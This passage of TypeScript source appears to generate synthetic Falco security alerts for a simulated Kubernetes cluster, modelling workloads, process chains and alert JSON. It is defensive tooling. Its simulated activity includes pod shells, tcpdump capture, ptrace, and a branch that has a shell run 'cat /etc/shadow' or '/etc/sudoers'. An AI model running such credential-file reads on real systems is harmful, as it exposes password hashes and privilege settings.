    profile: { kind: 'cni', base: 'amazonlinux', user: ROOT, cwd: '/app/', shells: ['bash'], execWeight: 0.6, main: [proc('aws-vpc-cni', '/app/aws-vpc-cni'), proc('aws-k8s-agent', '/app/aws-k8s-agent')] },
  },
  {
    app: 'ebs-csi-node', ns: 'kube-system', naming: 'daemonset', container: 'ebs-plugin', image: `${EKS_ECR}/eks/aws-ebs-csi-driver:v1.30.0`, nodes: [1, 3], hostNetwork: true,
    profile: { kind: 'csi', base: 'amazonlinux', user: ROOT, cwd: '/', shells: ['bash'], privileged: true, execWeight: 0.3, main: [proc('aws-ebs-csi-dri', '/bin/aws-ebs-csi-driver', 'node --endpoint=unix:/csi/csi.sock --logging-format=text --v=2')] },
  },
  {
    app: 'ebs-csi-controller', ns: 'kube-system', naming: 'deployment', container: 'ebs-plugin', image: `${EKS_ECR}/eks/aws-ebs-csi-driver:v1.30.0`, nodes: [0],
    profile: { kind: 'csi', base: 'amazonlinux', user: ROOT, cwd: '/', shells: ['bash'], execWeight: 0.3, main: [proc('aws-ebs-csi-dri', '/bin/aws-ebs-csi-driver', 'controller --endpoint=unix:///var/lib/csi/sockets/pluginproxy/csi.sock --k8s-tag-cluster-id=prod-eks --logging-format=text --v=2')] },
  },
  {
    app: 'prometheus-server', ns: 'monitoring', naming: 'statefulset', container: 'prometheus', image: 'quay.io/prometheus/prometheus:v2.51.2', nodes: [0],
    profile: { kind: 'prometheus', base: 'busybox', user: account('nobody', 65534, 'nogroup'), cwd: '/prometheus/', shells: ['sh'], execWeight: 0.8, main: [proc('prometheus', '/bin/prometheus', '--config.file=/etc/config/prometheus.yml --storage.tsdb.path=/data --storage.tsdb.retention.time=15d --web.enable-lifecycle')] },
  },
  {
    app: 'node-exporter', ns: 'monitoring', naming: 'daemonset', container: 'node-exporter', image: 'quay.io/prometheus/node-exporter:v1.8.0', nodes: [2, 5], hostNetwork: true,
    profile: { kind: 'exporter', base: 'busybox', user: account('nobody', 65534, 'nogroup'), cwd: '/', shells: ['sh'], execWeight: 0.3, main: [proc('node_exporter', '/bin/node_exporter', '--path.procfs=/host/proc --path.sysfs=/host/sys --path.rootfs=/host/root')] },
  },
  {
    app: 'grafana', ns: 'monitoring', naming: 'deployment', container: 'grafana', image: 'docker.io/grafana/grafana:10.4.2', nodes: [1],
    profile: { kind: 'grafana', base: 'alpine', user: account('grafana', 472, 'root', 0), cwd: '/usr/share/grafana/', shells: ['sh'], execWeight: 0.7, main: [proc('grafana', '/usr/share/grafana/bin/grafana', 'server --homepath=/usr/share/grafana --config=/etc/grafana/grafana.ini --packaging=docker')] },
  },
  {
    app: 'alertmanager', ns: 'monitoring', naming: 'statefulset', container: 'alertmanager', image: 'quay.io/prometheus/alertmanager:v0.27.0', nodes: [3],
    profile: { kind: 'alertmanager', base: 'busybox', user: account('nobody', 65534, 'nogroup'), cwd: '/alertmanager/', shells: ['sh'], execWeight: 0.3, main: [proc('alertmanager', '/bin/alertmanager', '--config.file=/etc/alertmanager/alertmanager.yml --storage.path=/alertmanager')] },
  },
  {
    app: 'ingress-nginx-controller', ns: 'ingress-nginx', naming: 'deployment', container: 'controller', image: 'registry.k8s.io/ingress-nginx/controller:v1.10.1', nodes: [1, 3],
    profile: {
      kind: 'ingress', base: 'alpine', user: account('www-data', 101, 'www-data', 82), cwd: '/etc/nginx/', shells: ['bash', 'sh'], execWeight: 1.5,
      main: [proc('dumb-init', '/usr/bin/dumb-init', `-- /nginx-ingress-controller ${INGRESS_ARGS}`), proc('nginx-ingress-c', '/nginx-ingress-controller', INGRESS_ARGS, { argv0: '/nginx-ingress-controller' }), NGINX, NGINX],
    },
  },
  {
    app: 'postgres', ns: 'data', naming: 'statefulset', container: 'postgres', image: 'docker.io/library/postgres:16.2', nodes: [2, 4],
    profile: { kind: 'postgres', base: 'debian', user: account('postgres', 999), execUser: ROOT, cwd: '/var/lib/postgresql/', shells: ['bash'], execWeight: 2, main: [proc('postgres', '/usr/lib/postgresql/16/bin/postgres', '-c config_file=/etc/postgresql/postgresql.conf')] },
  },
  {
    app: 'redis-master', ns: 'data', naming: 'statefulset', container: 'redis', image: 'docker.io/library/redis:7.2.4-alpine', nodes: [3],
    profile: { kind: 'redis', base: 'alpine', user: account('redis', 999, 'redis', 1000), execUser: ROOT, cwd: '/data/', shells: ['sh'], execWeight: 1, main: [proc('redis-server', '/usr/local/bin/redis-server', '*:6379')] },
  },
  {
    app: 'kafka', ns: 'data', naming: 'statefulset', container: 'kafka', image: 'docker.io/bitnami/kafka:3.7.0', nodes: [1, 2, 4],
    profile: { kind: 'kafka', base: 'debian', user: account('kafka', 1001, 'root', 0), cwd: '/', shells: ['bash'], execWeight: 1.2, main: [proc('java', '/opt/bitnami/java/bin/java', '-Xmx1024m -Xms1024m -server -XX:+UseG1GC -XX:MaxGCPauseMillis=20 -Dlog4j.configuration=file:/opt/bitnami/kafka/config/log4j.properties kafka.Kafka /opt/bitnami/kafka/config/server.properties')] },
  },
  {
    app: 'gitlab-runner', ns: 'ci', naming: 'deployment', container: 'gitlab-runner', image: 'docker.io/gitlab/gitlab-runner:ubuntu-v16.11.0', nodes: [5],
    profile: {
      kind: 'runner', base: 'debian', user: account('gitlab-runner', 999), cwd: '/home/gitlab-runner/', shells: ['bash'], execWeight: 0.5,
      main: [proc('dumb-init', '/usr/bin/dumb-init', '/entrypoint run --user=gitlab-runner --working-directory=/home/gitlab-runner'), proc('gitlab-runner', '/usr/bin/gitlab-runner', 'run --user=gitlab-runner --working-directory=/home/gitlab-runner')],
    },
  },
  { app: 'ledger', ns: 'ci', naming: 'ci', container: 'build', image: 'docker.io/library/golang:1.22-bookworm', nodes: [5], profile: buildProfile('build-go', 'ledger') },
  { app: 'checkout-web', ns: 'ci', naming: 'ci', container: 'build', image: 'docker.io/library/node:20-bookworm', nodes: [5], profile: buildProfile('build-node', 'checkout-web') },
  { app: 'fraud-scorer', ns: 'ci', naming: 'ci', container: 'build', image: 'docker.io/library/python:3.12-slim-bookworm', nodes: [5], profile: buildProfile('build-python', 'fraud-scorer') },
  {
    app: 'platform-images', ns: 'ci', naming: 'ci', container: 'svc-0', image: 'docker.io/library/docker:26.0-dind', nodes: [5],
    profile: {
      kind: 'dind', base: 'alpine', user: ROOT, cwd: '/', shells: ['sh'], privileged: true, execWeight: 0.2,
      main: [
        proc('dockerd-entrypo', '/usr/local/bin/dockerd-entrypoint.sh', '/usr/local/bin/dockerd-entrypoint.sh', { argv0: '/bin/sh' }),
        proc('dockerd', '/usr/local/bin/dockerd', '--host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2376 --tlsverify --tlscacert /certs/server/ca.pem --tlscert /certs/server/cert.pem --tlskey /certs/server/key.pem'),
      ],
    },
  },
  {
    app: 'netshoot', ns: 'default', naming: 'pod', container: 'netshoot', image: 'docker.io/nicolaka/netshoot:v0.12', nodes: [2],
    profile: { kind: 'netshoot', base: 'alpine', user: ROOT, cwd: '/root/', shells: ['bash', 'zsh'], execWeight: 4, main: [proc('sleep', '/bin/busybox', 'infinity')] },
  },
  {
    app: 'alpine-debug', ns: 'default', naming: 'pod', container: 'alpine', image: 'docker.io/library/alpine:3.19', nodes: [4],
    profile: { kind: 'toolbox', base: 'alpine', user: ROOT, cwd: '/', shells: ['sh'], execWeight: 2, main: [proc('sleep', '/bin/busybox', '3600')] },
  },
  {
    app: 'busybox-test', ns: 'default', naming: 'pod', container: 'busybox', image: 'docker.io/library/busybox:1.36', nodes: [0],
    profile: { kind: 'toolbox', base: 'busybox', user: ROOT, cwd: '/', shells: ['sh'], execWeight: 1, main: [proc('sleep', '/bin/sleep', '86400')] },
  },
  {
    app: 'node-debugger', ns: 'default', naming: 'debugger', container: 'debugger', image: 'docker.io/library/ubuntu:22.04', nodes: [3], hostNetwork: true,
    profile: { kind: 'node-debugger', base: 'debian', user: ROOT, cwd: '/', shells: ['bash'], privileged: true, execWeight: 0.5, main: [tool('debian', 'bash')] },
  },
];

function podName(workload: Workload, replica: number, host: Host, rng: Rng, replicaSet: string): string {
  switch (workload.naming) {
    case 'deployment':
      return `${workload.app}-${replicaSet}-${k8sSuffix(rng, 5)}`;
    case 'statefulset':
      return `${workload.app}-${replica}`;
    case 'daemonset':
      return `${workload.app}-${k8sSuffix(rng, 5)}`;
    case 'ci':
      return `runner-${chars(rng, 8, 'abcdefghijklmnopqrstuvwxyz0123456789')}-project-${int(rng, 40, 180)}-concurrent-${replica}-${chars(rng, 8, 'abcdefghijklmnopqrstuvwxyz0123456789')}`;
    case 'debugger':
      return `node-debugger-${host.name}-${k8sSuffix(rng, 5)}`;
    case 'pod':
      return workload.app;
  }
}

function buildContainers(): Container[] {
  const containers: Container[] = [];
  for (const workload of WORKLOADS) {
    const rng = rngFor('world', workload.ns, workload.app, workload.container);
    const replicaSet = k8sSuffix(rng, int(rng, 9, 10));
    const colon = workload.image.lastIndexOf(':');
    workload.nodes.forEach((node, replica) => {
      const host = hostAt(node);
      const fullId = hex(rng, 64);
      const subnet = host.ip.split('.').slice(0, 3).join('.');
      const restartDays = workload.naming === 'ci' ? 1 : int(rng, 4, 20);
      containers.push({
        id: fullId.slice(0, 12),
        fullId,
        sandboxId: hex(rng, 64),
        name: workload.container,
        pod: podName(workload, replica, host, rng, replicaSet),
        ns: workload.ns,
        repo: workload.image.slice(0, colon),
        tag: workload.image.slice(colon + 1),
        host,
        ip: workload.hostNetwork ? host.ip : `${subnet}.${int(rng, 20, 250)}`,
        profile: workload.profile,
        restartPeriodMs: restartDays * DAY_MS,
        restartPhaseMs: Math.floor(rng() * restartDays * DAY_MS),
      });
    });
  }
  return containers;
}

const CONTAINERS: readonly Container[] = buildContainers();

const byKind = new Map<Kind, Container[]>();
for (const container of CONTAINERS) {
  const list = byKind.get(container.profile.kind) ?? [];
  list.push(container);
  byKind.set(container.profile.kind, list);
}

function pickContainer(rng: Rng, ...kinds: Kind[]): Container {
  return pick(rng, kinds.flatMap((kind) => byKind.get(kind) ?? []));
}

const EXEC_TARGETS: readonly (readonly [number, Container])[] = CONTAINERS.map((c) => [c.profile.execWeight, c]);

/** When the container last (re)started: containers restart on a fixed per-container period. */
function containerStartMs(c: Container, tMs: number): number {
  const sinceStart = (((tMs - c.restartPhaseMs) % c.restartPeriodMs) + c.restartPeriodMs) % c.restartPeriodMs;
  // A container cannot be older than its node's last boot: it came back a minute or two after.
  return Math.max(tMs - sinceStart - 30_000, hostBootMs(c.host, tMs) + 60_000 + (c.restartPhaseMs % 120_000));
}

const startNs = (ms: number, salt: number) => BigInt(Math.floor(ms)) * NS_PER_MS + BigInt((salt * 7919) % 1_000_000);

const SYSTEMD = proc('systemd', '/usr/lib/systemd/systemd', '--switched-root --system --deserialize=32', { pid: 1 });

function shimOf(c: Container, tMs: number): Proc {
  const started = containerStartMs(c, tMs);
  return proc('containerd-shim', '/usr/bin/containerd-shim-runc-v2', `-namespace k8s.io -id ${c.sandboxId} -address /run/containerd/containerd.sock`, {
    pid: hostPidAt(c.host, started - 1_500),
  });
}

/** The container's own processes, deepest first, down to the shim and the node's systemd. */
function mainChain(c: Container, tMs: number): Proc[] {
  const shim = shimOf(c, tMs);
  const shimPid = shim.pid ?? 0;
  const main = c.profile.main.map((p, i) => ({ ...p, pid: shimPid + 14 + 9 * i }));
  return [...main.reverse(), shim, SYSTEMD];
}

/** `kubectl exec` and exec probes: runc starts the process inside the container. */
function execParents(c: Container, tMs: number, rng: Rng): Proc[] {
  const task = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${c.fullId}`;
  const runc = proc('runc', '/usr/bin/runc', `--root /run/containerd/runc/k8s.io --log ${task}/log.json --log-format json exec --process /tmp/runc-process${int(rng, 100_000_000, 3_999_999_999)} --detach --pid-file ${task}/${hex(rng, 64)}.pid ${c.fullId}`, {
    pid: hostPidAt(c.host, tMs) + int(rng, 0, 5),
  });
  return [runc, shimOf(c, tMs), SYSTEMD];
}

/** A process started by the first one of `parents` just now: its pid comes right after. */
const childOf = (parents: readonly Proc[], child: Proc, rng: Rng): Proc => ({ ...child, pid: (parents[0]?.pid ?? 1_000) + int(rng, 1, 6) });

const sshdListener = (host: Host) => proc('sshd', '/usr/sbin/sshd', '-D', { pid: 1_100 + 37 * host.index });

/** An admin's shell on a node, deepest first: in tmux or straight from ssh. */
function loginShell(host: Host, admin: User, tMs: number, rng: Rng): Proc[] {
  // Logged in a while ago: the shell keeps its pid for every command the admin runs.
  let shellAgo = int(rng, 60_000, 2 * HOUR_MS);
  if (chance(rng, 0.55)) {
    // One tmux server per admin and day, started at their first login (about 08:00 UTC).
    const tmuxAgo = ((((tMs - 8 * HOUR_MS) % DAY_MS) + DAY_MS) % DAY_MS) + (admin.uid - 1000) * MINUTE_MS;
    shellAgo = Math.min(shellAgo, tmuxAgo - 5_000);
    const tmux = proc('tmux', '/usr/bin/tmux', 'new-session -A -s ops', { pid: pidStartedAgo(host, tMs, tmuxAgo) });
    return [proc('bash', '/usr/bin/bash', '', { pid: pidStartedAgo(host, tMs, shellAgo) }), tmux, SYSTEMD];
  }
  const loginPid = pidStartedAgo(host, tMs, shellAgo);
  const session = proc('sshd', '/usr/sbin/sshd', '-D -R');
  const bash = proc('bash', '/usr/bin/bash', '', { argv0: '-bash', pid: loginPid + 4 });
  return [bash, { ...session, pid: loginPid + 2 }, { ...session, pid: loginPid }, sshdListener(host), SYSTEMD];
}

const sudo = (command: Proc) => proc('sudo', '/usr/bin/sudo', command.cmdline);
/** `sudo cmd` in a pty: sudo forks a monitor, so the chain holds sudo twice (FORMAT.md §4). */
const sudoed = (command: Proc, shell: readonly Proc[]) => [command, sudo(command), sudo(command), ...shell];

// ─── Assembling alerts ───────────────────────────────────────────────────────────────────────────

interface Ctx {
  rng: Rng;
  tMs: number;
  tNs: bigint;
}

interface AlertSpec {
  rule: RuleDef;
  priority: Priority;
  timeNs: bigint;
  hostname: string;
  values: Fields;
  /** output_fields beyond the template's (container plugin fields, append_output extra fields). */
  extraKeys: readonly string[];
}

const CONTAINER_KEYS = ['container.id', 'container.name', 'container.image.repository', 'container.image.tag', 'k8s.ns.name', 'k8s.pod.name'];
// Falco 0.41+ (container plugin) appends these to every syscall rule's output.
const CONTAINER_SUFFIX =
  ' container_id=%container.id container_name=%container.name container_image_repository=%container.image.repository container_image_tag=%container.image.tag k8s_pod_name=%k8s.pod.name k8s_ns_name=%k8s.ns.name';
const EXTRA_KEYS = [
  ...CONTAINER_KEYS,
  'proc.pid', 'proc.ppid', 'proc.apid[2]', 'proc.apid[3]', 'proc.apid[4]', 'proc.aname[2]', 'proc.aname[3]', 'proc.aname[4]', 'proc.pcmdline', 'proc.acmdline[2]',
];

const DEFAULT_CAPS =
  'CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP';
const FULL_CAPS =
  'CAP_CHOWN CAP_DAC_OVERRIDE CAP_DAC_READ_SEARCH CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_LINUX_IMMUTABLE CAP_NET_BIND_SERVICE CAP_NET_BROADCAST CAP_NET_ADMIN CAP_NET_RAW CAP_IPC_LOCK CAP_IPC_OWNER CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_PACCT CAP_SYS_ADMIN CAP_SYS_BOOT CAP_SYS_NICE CAP_SYS_RESOURCE CAP_SYS_TIME CAP_SYS_TTY_CONFIG CAP_MKNOD CAP_LEASE CAP_AUDIT_WRITE CAP_AUDIT_CONTROL CAP_SETFCAP CAP_MAC_OVERRIDE CAP_MAC_ADMIN CAP_SYSLOG CAP_WAKE_ALARM CAP_BLOCK_SUSPEND CAP_AUDIT_READ CAP_PERFMON CAP_BPF CAP_CHECKPOINT_RESTORE';

const later = (ctx: Ctx, offsetMs: number) => ctx.tNs + BigInt(Math.round(offsetMs * 1e6));

/** Pids for the processes that have none yet: started shortly before the event, ancestors first. */
function withPids(chain: readonly Proc[], host: Host, tMs: number, rng: Rng): Proc[] {
  let next = pidStartedAgo(host, tMs, int(rng, 2_000, 60_000));
  const out: Proc[] = [];
  for (const p of [...chain].reverse()) {
    if (p.pid !== undefined) {
      out.unshift(p);
      next = Math.max(next, p.pid + int(rng, 1, 6));
      continue;
    }
    out.unshift({ ...p, pid: next });
    next += int(rng, 1, 40);
  }
  return out;
}

const SESSION_BOUNDARY = new Set(['containerd-shim', 'runc', 'systemd', 'sshd', 'tmux', 'crond']);

function sessionLeader(chain: readonly Proc[]): string {
  let leader = chain[0]?.name ?? '';
  for (const p of chain) {
    if (SESSION_BOUNDARY.has(p.name)) break;
    leader = p.name;
  }
  return leader;
}

function chainFields(chain: readonly Proc[]): Fields {
  const [leaf, parent] = chain;
  if (!leaf) throw new Error('a process chain needs a process');
  const fields: Fields = {
    'proc.name': leaf.name,
    'proc.exepath': leaf.exe,
    'proc.exe': leaf.argv0 ?? leaf.exe,
    'proc.cmdline': leaf.cmdline,
    'proc.args': leaf.cmdline.slice(leaf.name.length + 1),
    'proc.pid': leaf.pid ?? null,
    'proc.pname': parent?.name ?? null,
    'proc.pexepath': parent?.exe ?? null,
    'proc.pexe': parent ? (parent.argv0 ?? parent.exe) : null,
    'proc.pcmdline': parent?.cmdline ?? null,
    'proc.ppid': parent?.pid ?? null,
  };
  for (let level = 2; level <= 7; level++) {
    const ancestor = chain[level];
    fields[`proc.aname[${level}]`] = ancestor?.name ?? null;
    fields[`proc.aexepath[${level}]`] = ancestor?.exe ?? null;
    fields[`proc.acmdline[${level}]`] = ancestor?.cmdline ?? null;
    fields[`proc.apid[${level}]`] = ancestor?.pid ?? null;
  }
  return fields;
}

interface SyscallInput {
  /** The process first, then its parent, … up to the root (systemd). */
  chain: readonly Proc[];
  user: User;
  offsetMs?: number;
  tty?: number;
  cwd?: string;
  fields?: Fields;
}

const isContainer = (where: Container | Host): where is Container => 'profile' in where;

function syscall(ctx: Ctx, ruleName: string, where: Container | Host, input: SyscallInput): AlertSpec {
  const rule = ruleOrThrow(ruleName);
  const container = isContainer(where) ? where : null;
  const host = isContainer(where) ? where.host : where;
  const timeNs = later(ctx, input.offsetMs ?? 0);
  const tMs = Number(timeNs / NS_PER_MS);
  const chain = withPids(input.chain, host, tMs, ctx.rng);
  const { user } = input;
  const root = user.uid === 0;
  const values: Fields = {
    'evt.type': 'execve',
    'evt.res': 'SUCCESS',
    'evt.arg.flags': container ? (root ? 'EXE_WRITABLE|EXE_LOWER_LAYER' : 'EXE_LOWER_LAYER') : root ? 'EXE_WRITABLE' : null,
    'user.name': user.name,
    'user.uid': user.uid,
    'user.loginuid': user.loginuid,
    'user.loginname': user.loginname,
    'group.gid': user.gid,
    'group.name': user.group,
    'proc.tty': input.tty ?? 0,
    'proc.cwd': input.cwd ?? container?.profile.cwd ?? (user.loginuid >= 1000 ? `/home/${user.loginname}/` : '/root/'),
    'proc.sname': sessionLeader(chain),
    'thread.cap_effective': !root ? '' : !container || container.profile.privileged ? FULL_CAPS : DEFAULT_CAPS,
    'container.id': container?.id ?? 'host',
    'container.name': container?.name ?? 'host',
    'container.image.repository': container?.repo ?? '',
    'container.image.tag': container?.tag ?? '',
    'k8s.ns.name': container?.ns ?? null,
    'k8s.pod.name': container?.pod ?? null,
    'container.start_ts': container
      ? startNs(containerStartMs(container, tMs), container.restartPhaseMs)
      : startNs(hostBootMs(host, tMs), host.index + 1),
    ...chainFields(chain),
    ...input.fields,
  };
  return { rule, priority: rule.priority, timeNs, hostname: host.name, values, extraKeys: host.extraFields ? EXTRA_KEYS : CONTAINER_KEYS };
}

/** A plugin alert (k8s_audit, aws_cloudtrail, gcp_auditlog): only the template's fields. */
function pluginAlert(ctx: Ctx, ruleName: string, host: Host, values: Fields, offsetMs = 0): AlertSpec {
  const rule = ruleOrThrow(ruleName);
  // Audit logs carry microseconds; CloudTrail only whole seconds.
  const precision = rule.source === 'aws_cloudtrail' ? 1_000_000_000n : 1_000n;
  const t = later(ctx, offsetMs);
  return { rule, priority: rule.priority, timeNs: t - (t % precision), hostname: host.name, values, extraKeys: [] };
}

const DROP_COUNTERS = [
  'n_drops_buffer_clone_fork_enter', 'n_drops_buffer_clone_fork_exit', 'n_drops_buffer_connect_enter', 'n_drops_buffer_connect_exit',
  'n_drops_buffer_dir_file_enter', 'n_drops_buffer_dir_file_exit', 'n_drops_buffer_execve_enter', 'n_drops_buffer_execve_exit',
  'n_drops_buffer_open_enter', 'n_drops_buffer_open_exit', 'n_drops_buffer_other_interest_enter', 'n_drops_buffer_other_interest_exit',
];

function syscallDrop(ctx: Ctx, host: Host, critical: boolean): AlertSpec {
  const { rng } = ctx;
  const drops = Math.floor(Math.exp(3 + rng() * 9));
  const values: Fields = {
    ebpf_enabled: '1',
    n_drops: String(drops),
    n_drops_buffer_total: String(drops),
    n_drops_bug: '0',
    n_drops_page_faults: '0',
    n_drops_scratch_map: '0',
    n_evts: String(drops * int(rng, 3, 40) + int(rng, 100_000, 900_000)),
  };
  let left = drops;
  for (const counter of DROP_COUNTERS) {
    const share = counter.endsWith('other_interest_exit') ? left : Math.floor(left * rng() * 0.4);
    values[counter] = String(share);
    left -= share;
  }
  const rule = ruleOrThrow('Falco internal: syscall event drop');
  return { rule, priority: critical ? 'Critical' : 'Debug', timeNs: ctx.tNs, hostname: host.name, values, extraKeys: Object.keys(values) };
}

function toText(value: FieldValue | undefined): string {
  if (value === null || value === undefined) return '<NA>';
  if (Array.isArray(value)) return `(${value.join(',')})`;
  return String(value);
}

const fill = (template: string, values: Fields) =>
  template.replace(FIELD_PATTERN, (_match, raw: string) => {
    const name = fieldName(raw);
    return toText(values[name]) + raw.slice(name.length);
  });

/** A JSON value; BigInt nanosecond counts are written as exact integer literals, as Falco does. */
function jsonValue(value: FieldValue | readonly string[]): string {
  return typeof value === 'bigint' ? value.toString() : JSON.stringify(value);
}

/** A JSON object with its keys sorted, as Falco writes them (nlohmann::json orders keys). */
function jsonObject(entries: readonly (readonly [string, string])[]): string {
  const sorted = [...entries].sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
  return `{${sorted.map(([key, json]) => `${JSON.stringify(key)}:${json}`).join(',')}}`;
}

function render(spec: AlertSpec): DemoAlert & { identity: string } {
  const { rule } = spec;
  const time = formatTimeNs(spec.timeNs);
  const internal = rule.source === 'internal';
  let text = fill(rule.template, spec.values);
  if (rule.source === 'syscall') text += fill(CONTAINER_SUFFIX, spec.values);
  const output = internal ? text : `${time.slice(11, 29)}: ${spec.priority} ${text}`;
  const fields = new Map<string, string>(internal ? [] : [['evt.time', jsonValue(spec.timeNs)]]);
  for (const key of [...rule.fields, ...spec.extraKeys]) fields.set(key, jsonValue(spec.values[key] ?? null));
  const line = jsonObject([
    ['hostname', jsonValue(spec.hostname)],
    ['output', jsonValue(output)],
    ['output_fields', jsonObject([...fields])],
    ['priority', jsonValue(spec.priority)],
    ['rule', jsonValue(rule.name)],
    ['source', jsonValue(rule.source)],
    ...(rule.tags.length > 0 ? [['tags', jsonValue(rule.tags)] as const] : []),
    ['time', jsonValue(time)],
  ]);
  // What the store's content dedup compares (lib/falco/alert.ts dedupKeyOf), time aside.
  const identity = `${rule.name}\u0000${spec.hostname}\u0000${output}`;
  return { timeNs: spec.timeNs, line, identity };
}

// ─── Field helpers ───────────────────────────────────────────────────────────────────────────────

const ephemeralPort = (rng: Rng) => int(rng, 32_768, 60_999);
const API_SERVER = '172.20.0.1';
const GITLAB_SSH = '10.0.40.12';

/** A client socket from `localIp` (fd.name is client->server, as Falco prints it). */
function connection(rng: Rng, localIp: string, remoteIp: string, remotePort: number, evtType = 'connect'): Fields {
  const local = ephemeralPort(rng);
  return {
    'evt.type': evtType,
    'fd.name': `${localIp}:${local}->${remoteIp}:${remotePort}`,
    'fd.lport': local,
    'fd.rport': remotePort,
    'fd.sip': remoteIp,
    'fd.type': 'ipv4',
    'fd.l4proto': 'tcp',
  };
}

const openat = (file: string, extra: Fields = {}): Fields => ({ 'evt.type': 'openat', 'fd.name': file, ...extra });

/** Fields of a binary written into the container's upper layer `agoMs` before it ran. */
function droppedBinary(ctx: Ctx, argv0: string, agoMs: number): Fields {
  const written = later(ctx, -agoMs);
  return {
    'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER',
    'proc.exe': argv0,
    'proc.exe_ino.ctime': written,
    'proc.exe_ino.mtime': written,
    'proc.exe_ino.ctime_duration_proc_start': Math.round(agoMs * 1e6) - int(ctx.rng, 1_000, 900_000),
  };
}

function k8sUri(resource: string, ns: string | null, name: string | null, subresource = ''): string {
  const group: Record<string, string> = {
    leases: '/apis/coordination.k8s.io/v1', deployments: '/apis/apps/v1', certificatesigningrequests: '/apis/certificates.k8s.io/v1',
  };
  return `${group[resource] ?? '/api/v1'}${ns ? `/namespaces/${ns}` : ''}/${resource}${name ? `/${name}` : ''}${subresource ? `/${subresource}` : ''}`;
}

function disallowedUser(ctx: Ctx, user: string, verb: string, resource: string, ns: string | null, name: string | null, code: string, subresource = ''): AlertSpec {
  return pluginAlert(ctx, 'Disallowed K8s User', AUDIT_HOST, {
    'ka.user.name': user,
    'ka.target.name': name,
    'ka.target.resource': resource,
    'ka.verb': verb,
    'ka.uri': k8sUri(resource, ns, name, subresource) + (verb === 'list' ? '?limit=500&resourceVersion=0' : ''),
    'ka.response.code': code,
  });
}

const rbacReason = (binding: string, role: string, subject: string) => `RBAC: allowed by ${binding} of ClusterRole "${role}" to ${subject}`;

const AWS_ACCOUNT = '123456789012';
const ctFields = (user: string, ip: string, region: string, extra: Fields = {}): Fields => ({ 'ct.user': user, 'ct.srcip': ip, 'ct.region': region, ...extra });

const GCP_PROJECT = 'acme-analytics-prod';
const GCLOUD_AGENT = 'google-cloud-sdk gcloud/471.0.0 command/gcloud.iam.service-accounts.keys.create invocation-id/4f0b3c2a9d8e4b1f environment/None environment-version/None client-os/LINUX client-os-ver/6.5.0 client-pltf-arch/x86_64 interactive/True from-script/False python/3.11.8 term/xterm-256color (Linux 6.5.0-1016-gcp),gzip(gfe)';
const TERRAFORM_AGENT = 'Terraform/1.7.5 (+https://www.terraform.io) Terraform-Plugin-SDK/2.33.0 terraform-provider-google/5.25.0,gzip(gfe)';
const BROWSER_AGENT = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36,gzip(gfe),gzip(gfe)';

function gcpFields(user: string, ip: string, agent: string, permission: string, resource: string, request: Record<string, unknown>, extra: Fields = {}): Fields {
  return {
    'gcp.projectId': GCP_PROJECT,
    'gcp.user': user,
    'gcp.callerIP': ip,
    'gcp.userAgent': agent,
    'gcp.authorizationInfo': JSON.stringify([{ granted: true, permission, resource, resourceAttributes: {} }]),
    'gcp.request': JSON.stringify(request),
    ...extra,
  };
}

// ─── Everyday activity (the baseline) ────────────────────────────────────────────────────────────

type Scenario = (ctx: Ctx) => AlertSpec[];

/** Someone runs `kubectl exec -it … -- bash`: the audit event, the shell, sometimes what they did next. */
const execSession: Scenario = (ctx) => {
  const { rng } = ctx;
  const c = weighted(rng, EXEC_TARGETS);
  const person = pick(rng, K8S_PEOPLE);
  const shellName = pick(rng, c.profile.shells);
  const user = c.profile.execUser ?? c.profile.user;
  const tty = 34816 + int(rng, 0, 6);
  const parents = execParents(c, ctx.tMs, rng);
  const session = [childOf(parents, tool(c.profile.base, shellName), rng), ...parents];
  const alerts = [
    pluginAlert(ctx, 'Attach/Exec Pod', AUDIT_HOST, {
      'ka.user.name': person, 'ka.target.name': c.pod, 'ka.target.resource': 'pods', 'ka.target.namespace': c.ns,
      'ka.target.subresource': 'exec', 'ka.uri.param[command]': shellName,
    }),
  ];
  // runc clones itself into a memfd on every exec; some nodes' Falco flags it.
  if (chance(rng, 0.12)) alerts.push(runcMemfd(ctx, c, int(rng, 20, 90)));
  alerts.push(syscall(ctx, 'Terminal shell in container', c, { chain: session, user, tty, offsetMs: int(rng, 120, 450) }));

  const next = { user, tty, offsetMs: int(rng, 5_000, 600_000) };
  const base = c.profile.base;
  if (c.profile.kind === 'postgres' && chance(rng, 0.5)) {
    const psql = tool(base, 'psql');
    alerts.push(syscall(ctx, 'System user interactive', c, { ...next, chain: [psql, tool(base, 'su', 'postgres -c psql'), ...session], user: c.profile.user }));
  } else if (c.profile.kind === 'netshoot' && chance(rng, 0.6)) {
    const filter = pick(rng, ['port 53', 'host 10.0.12.77', 'tcp port 5432', 'port 9092']);
    alerts.push(syscall(ctx, 'Packet socket created in container', c, {
      ...next, chain: [tool(base, 'tcpdump', `-i eth0 -nn ${filter}`), ...session],
      fields: { 'evt.type': 'socket', 'evt.args': 'fd=3(<p>) domain=17(AF_PACKET) type=3 proto=768', 'fd.name': '', 'fd.lport': null, 'fd.rport': null, 'fd.type': '<NA>', 'fd.l4proto': '<NA>' },
    }));
  } else if (c.profile.kind === 'python' && chance(rng, 0.3)) {
    const worker = mainChain(c, ctx.tMs)[0]?.pid ?? 1;
    alerts.push(syscall(ctx, 'PTRACE attached to process', c, {
      ...next, user: ROOT, chain: [tool(base, 'py-spy', `dump --pid ${worker}`), ...session], fields: { 'evt.type': 'ptrace' },
    }));
  } else if (chance(rng, 0.12)) {
    // Root reads it directly; an image user goes through sudo (containerd-shim → runc → bash → sudo →
    // cat). Debian's sudo has no use_pty by default, so there is one sudo, not the pair seen on nodes.
    const file = pick(rng, ['/etc/shadow', '/etc/shadow', '/etc/sudoers']);
    const cat = tool(base, 'cat', file);
